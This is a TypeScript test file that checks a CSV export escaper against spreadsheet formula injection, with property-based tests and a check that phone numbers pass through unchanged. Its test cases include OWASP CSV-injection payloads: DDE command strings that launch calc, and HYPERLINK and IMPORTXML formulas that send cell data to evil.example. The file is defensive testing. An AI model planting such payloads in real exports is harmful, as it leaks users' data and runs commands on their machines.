import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { normalizePhone } from '../normalize/phone.ts';
import { csvField, csvRow, escapeSpreadsheetCell } from './escape.ts';

/** Characters after which a leading `+`/`-` value can still do nothing but arithmetic. */
const HARMLESS_TAIL = '0123456789 +-().,';

describe('escapeSpreadsheetCell', () => {
  it.each([
    ['=HYPERLINK("http://evil","x")', `'=HYPERLINK("http://evil","x")`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['Иванов', 'Иванов'],
    [' =1', ' =1'],
    ['', ''],
  ])('%j → %j', (value, escaped) => {
    expect(escapeSpreadsheetCell(value)).toBe(escaped);
  });

  it.each([
    '+79161234567',
    '+79161234567, +79161234568',
    '+7 (916) 123-45-67',
    '-5',
    '-2.5',
    '-2+3',
    '+',
    '-',
  ])('leaves %j as it is: digits and + - ( ) . , cannot call or reference anything', (value) => {
    expect(escapeSpreadsheetCell(value)).toBe(value);
  });

  it.each([
    // OWASP "CSV Injection" payloads and the usual variants.
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"Error: please click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '@A1',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+1+1!A0',
    '-1:2',
    '+A1',
    '-$A$1',
    '+1;2',
    '+1&2',
    '+"x"',
    "+'x'",
    '-SUM(1)',
    '+7 916 123 45 67 доб. 12',
    '+7\n=1+1',
    '\t+7',
    '\r-5',
  ])('escapes %j', (value) => {
    expect(escapeSpreadsheetCell(value)).toBe(`'${value}`);
  });

  it('escapes every value starting with = or @, whatever follows', () => {
    fc.assert(
      fc.property(fc.constantFrom('=', '@'), fc.string(), (start, rest) => {
        expect(escapeSpreadsheetCell(start + rest)).toBe(`'${start}${rest}`);
      }),
    );
  });

  it('escapes a value after + or - that holds anything but digits, spaces and + - ( ) . ,', () => {
    const harmless = fc.string({ unit: fc.constantFrom(...HARMLESS_TAIL) });
    const other = fc.string({ minLength: 1, maxLength: 1 }).filter((c) => !HARMLESS_TAIL.includes(c));
    fc.assert(
      fc.property(fc.constantFrom('+', '-'), harmless, other, fc.string(), (sign, before, c, after) => {
        const value = `${sign}${before}${c}${after}`;
        expect(escapeSpreadsheetCell(value)).toBe(`'${value}`);
      }),
    );
  });

  it('never leaves a value that a spreadsheet would read as a formula with more than arithmetic', () => {
    fc.assert(
      fc.property(fc.string(), (value) => {
        const out = escapeSpreadsheetCell(value);
        if (out === value && /^[=+\-@\t\r]/.test(value)) {
          expect(value).toMatch(/^[+-][0-9 +\-().,]*$/);
        }
      }),
    );
  });

  it('exports stored phones as they are, so the phone check reads them back', () => {
    for (const e164 of ['+79161234567', '+442071838750', '+8613912345678']) {
      const exported = escapeSpreadsheetCell(e164);
      expect(exported).toBe(e164);
      expect(normalizePhone(exported, 'RU')).toMatchObject({ ok: true, value: { e164 } });
    }
  });
});

describe('csvField', () => {
  it.each([
    ['plain', ',', 'plain'],
    ['a,b', ',', '"a,b"'],
    ['a,b', ';', 'a,b'],
    ['a;b', ';', '"a;b"'],
    ['ООО "Ромашка"', ',', '"ООО ""Ромашка"""'],
    ['line\nbreak', ',', '"line\nbreak"'],
    [' padded ', ',', '" padded "'],
    ['', ',', ''],
  ])('%j with %j → %j', (value, delimiter, field) => {
    expect(csvField(value, delimiter)).toBe(field);
  });

  it('builds a row escaped against formulas', () => {
    expect(csvRow(['Иванов', '=1+1', 'a,b'])).toBe(`Иванов,'=1+1,"a,b"`);
  });

  it('puts the apostrophe inside the quotes of a quoted field (`"=1+1"` in the file is `=1+1`)', () => {
    expect(csvRow(['=SUM(1,2)', '+79161234567, +79161234568'], ';')).toBe(
      `'=SUM(1,2);+79161234567, +79161234568`,
    );
    expect(csvRow(['=SUM(1,2)', '"=1+1"'])).toBe(`"'=SUM(1,2)","""=1+1"""`);
  });
});
